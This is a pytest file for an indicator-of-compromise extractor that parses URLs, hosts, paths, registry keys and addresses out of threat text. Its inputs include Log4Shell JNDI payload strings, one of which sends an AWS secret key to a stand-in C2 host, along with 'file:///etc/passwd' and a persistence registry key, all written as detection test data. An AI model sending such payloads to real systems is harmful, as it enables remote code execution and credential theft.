"""Typographic boundaries, markdown links, Cisco MACs, non-web schemes, zero-padded IPv4.

The labelled cases are in corpus.py (and scored by test_accuracy.py); these tests check what
the corpus cannot: offsets and raw text, validators, classify, the private-address filter.
"""

from __future__ import annotations

import pytest

from asisdk.ioc import IocExtractor, classify, validate


def _matches(text: str, **kwargs: bool) -> list[tuple[str, str, str]]:
    return [(m.type, m.value, m.raw) for m in IocExtractor(**kwargs).finditer(text)]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("\u201c", "\u201d"),  # “ ”
        ("\u2018", "\u2019"),  # ‘ ’
        ("\u00ab", "\u00bb"),  # « »
        ("\u201e", "\u201c"),  # „ “
        ("", "\u2026"),  # …
        ("", "\u2014next"),  # —
        ("", "\u2013next"),  # –
        ("", "\u3002"),  # 。
        ("", "\uff0c"),  # ，
        ("\u200b", "\u200b"),  # zero-width spaces
        ("\ufeff", ""),  # byte order mark
    ],
)
def test_typographic_punctuation_ends_a_url_without_host_path(before: str, after: str) -> None:
    text = f"C2 {before}http://c2.evil-host.net{after} and"
    assert _matches(text) == [
        ("url", "http://c2.evil-host.net", "http://c2.evil-host.net"),
        ("dns", "c2.evil-host.net", "c2.evil-host.net"),
    ]


def test_curly_quoted_windows_path_keeps_its_spaces() -> None:
    text = "ran \u201cC:\\Program Files\\Evil App\\svc.exe\u201d at boot"
    assert _matches(text) == [
        (
            "windows_path",
            "C:\\Program Files\\Evil App\\svc.exe",
            "C:\\Program Files\\Evil App\\svc.exe",
        )
    ]


def test_registry_key_stops_at_a_curly_quote() -> None:
    text = "persistence in \u2018HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\u2019."
    assert _matches(text) == [
        (
            "registry_key",
            "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        )
    ]


def test_markdown_link_with_a_url_as_text_gives_two_spans_without_brackets() -> None:
    text = "[https://evil-login.com/a](https://evil-login.com/a)"
    urls = [m for m in IocExtractor().finditer(text) if m.type == "url"]
    assert [(m.value, m.start, m.end) for m in urls] == [
        ("https://evil-login.com/a", 1, 25),
        ("https://evil-login.com/a", 27, 51),
    ]
    assert IocExtractor().extract(text, types=["url"]) == {"url": {"https://evil-login.com/a"}}


def test_chained_markdown_links_are_each_reported() -> None:
    text = "[a](http://one.evil.net)[b](http://two.evil.net/x) [c](hxxp://three.evil[.]net)"
    assert IocExtractor().extract(text, types=["url"]) == {
        "url": {"http://one.evil.net", "http://two.evil.net/x", "http://three.evil.net"}
    }


@pytest.mark.parametrize("mac", ["0050.56c0.0001", "AABB.CCDD.EEFF"])
def test_cisco_mac_validates_and_classifies(mac: str) -> None:
    assert validate(mac, "mac")
    assert classify(mac) == "mac"
    assert _matches(f"port {mac} learned") == [("mac", mac.lower(), mac)]


def test_cisco_mac_rejects_wrong_group_sizes() -> None:
    assert not validate("aabb.ccdd.eef", "mac")
    assert not validate("aabb.ccdd.eeff.0011", "mac")
    assert _matches("id aabb.ccdd.eef0a") == []


def test_jndi_wrapper_gives_the_url_and_its_host_with_offsets() -> None:
    text = "User-Agent: ${jndi:ldap://198.51.100.7:1389/a}"
    found = [(m.type, m.value, m.start, m.end) for m in IocExtractor().finditer(text)]
    start = text.index("ldap")
    assert found == [
        ("url", "ldap://198.51.100.7:1389/a", start, text.index("}")),
        ("ipv4", "198.51.100.7", start + 7, start + 19),
    ]


@pytest.mark.parametrize(
    "url",
    [
        "ldap://evil.com/a",
        "LDAPS://evil.com",
        "rmi://1.2.3.4:1099/x",
        "iiop://evil.com",
        "dns://evil.com",
        "tcp://1.2.3.4:4444",
        "udp://1.2.3.4:53",
        "smb://srv/share",
        "file:///etc/passwd",
        "file://srv/share/x",
        "ssh://root@evil.com:22",
        "sftp://evil.com",
        "telnet://evil.com",
        "rdp://evil.com",
        "vnc://evil.com:5901",
        "irc://irc.evil.net/#c",
        "git://evil.com/r.git",
        "s3://bucket/key",
    ],
)
def test_non_web_schemes_validate_and_classify_as_url(url: str) -> None:
    assert validate(url, "url")
    assert classify(url) == "url"


def test_file_url_needs_a_path_or_a_host() -> None:
    assert not validate("file:///", "url")
    assert _matches("file:/// alone") == []


def test_unknown_scheme_is_still_not_a_url() -> None:
    assert not validate("gopher://evil.com", "url")
    assert IocExtractor().extract("gopher://evil.com/x", types=["url"]) == {"url": set()}


def test_zero_padded_ipv4_value_is_canonical_and_raw_is_as_written() -> None:
    assert _matches("ping 010.001.002.003 now") == [("ipv4", "10.1.2.3", "010.001.002.003")]


def test_zero_padded_url_host_component_is_canonical() -> None:
    assert _matches("http://045.137.021.009:80/a") == [
        ("url", "http://045.137.021.009:80/a", "http://045.137.021.009:80/a"),
        ("ipv4", "45.137.21.9", "045.137.021.009"),
    ]


def test_zero_padded_private_ipv4_is_filtered_like_any_other() -> None:
    # ``ipaddress`` refuses leading zeros: the filter used to keep these as "global".
    text = "010.000.000.001 and 008.008.008.008"
    assert IocExtractor(include_private=False).extract(text, types=["ipv4"]) == {
        "ipv4": {"8.8.8.8"}
    }


@pytest.mark.parametrize(
    "text",
    [
        "[url=http://free-keys.evil.ws/get]free keys[/url]",
        "[url]http://free-keys.evil.ws/get[/url]",
        "[URL]http://free-keys.evil.ws/get[/URL]",
    ],
)
def test_bbcode_tags_are_not_part_of_the_url(text: str) -> None:
    (url,) = [m for m in IocExtractor().finditer(text) if m.type == "url"]
    assert (url.value, url.raw) == ("http://free-keys.evil.ws/get",) * 2
    assert text[url.end] in "[]"


def test_version_control_scheme_prefix_is_kept() -> None:
    assert validate("git+ssh://git@code-exfil.net/loot.git", "url")
    assert _matches("GIT+SSH://code-exfil.net/x") == [
        ("url", "git+ssh://code-exfil.net/x", "GIT+SSH://code-exfil.net/x"),
        ("dns", "code-exfil.net", "code-exfil.net"),
    ]


def test_url_glued_after_a_bbcode_tag_is_still_found() -> None:
    text = "[url]http://one.evil.ws/x[/url]http://two.evil.ws/y and [b]http://three.evil.ws]"
    assert IocExtractor().extract(text, types=["url"]) == {
        "url": {"http://one.evil.ws/x", "http://two.evil.ws/y", "http://three.evil.ws"}
    }


def test_zero_padded_ipv4_inside_ipv6_keeps_the_whole_span() -> None:
    text = "::ffff:010.001.002.003 here"
    assert _matches(text) == [
        ("ipv6", "::ffff:10.1.2.3", "::ffff:010.001.002.003"),
        ("ipv4", "10.1.2.3", "::ffff:010.001.002.003"),
    ]


def test_nested_log4j_lookup_is_not_part_of_the_url() -> None:
    text = "${jndi:ldap://log4j-c2.net:1389/${env:AWS_SECRET_ACCESS_KEY}}"
    assert _matches(text)[0] == (
        "url",
        "ldap://log4j-c2.net:1389/",
        "ldap://log4j-c2.net:1389/",
    )
